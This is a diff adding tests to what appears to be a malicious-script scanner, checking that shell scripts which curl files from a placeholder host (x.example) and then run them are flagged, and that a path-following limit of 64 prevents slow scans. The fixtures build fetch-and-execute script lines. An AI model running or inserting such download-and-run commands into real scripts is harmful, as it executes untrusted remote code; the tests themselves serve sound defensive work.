@@ -528,3 +528,32 @@ def test_jlpm_running_no_install_stays_clean(tmp_path: Path, runner: str) -> Non
         "js/scripts/p.js": _ENV_SENDER,
     }
     assert not package_danger(_target(tmp_path, tree, "tree"))
+
+
+def _downloads(count: int, run: bool) -> str:
+    """``count`` downloads to as many files, each named again later (started, or shown)."""
+    fetched = "".join(f"curl https://x.example/p -o /opt/f{i}.bin\n" for i in range(count))
+    later = "".join(f"{'' if run else 'echo '}/opt/f{i}.bin\n" for i in range(count))
+    return "#!/bin/sh\n" + fetched + later
+
+
+def test_a_script_of_many_downloads_named_again_is_judged_not_each_followed() -> None:
+    # Attack (attack25): each download's path was searched for a run through the rest of
+    # the text, so 8,000 downloads to as many paths (310 KB) took 89 s, 1 MiB a quarter
+    # of an hour, to answer "none". Now at most 64 paths written again later are followed,
+    # and past them the script is judged as one that runs what it downloads (the safe
+    # answer), at the first download not followed. None on 0bd193a.
+    assert script_payload(_downloads(200, run=False), ".sh") == (
+        66,
+        "more than 64 downloads to files named again: not each followed",
+    )
+
+
+def test_downloads_named_again_within_the_bound_are_followed_as_ever() -> None:
+    # the near miss: 64 downloads shown but not run are no payload, and one that is run is
+    # found at its run's line, as before
+    assert script_payload(_downloads(64, run=False), ".sh") is None
+    assert script_payload(_downloads(64, run=True), ".sh") == (66, "/opt/f0.bin")
+    # a path downloaded many times is followed once (from its first download)
+    text = "#!/bin/sh\n" + "curl https://x.example/p -o /opt/f.bin\n" * 500 + "sh /opt/f.bin\n"
+    assert script_payload(text, ".sh") == (502, "sh /opt/f.bin")
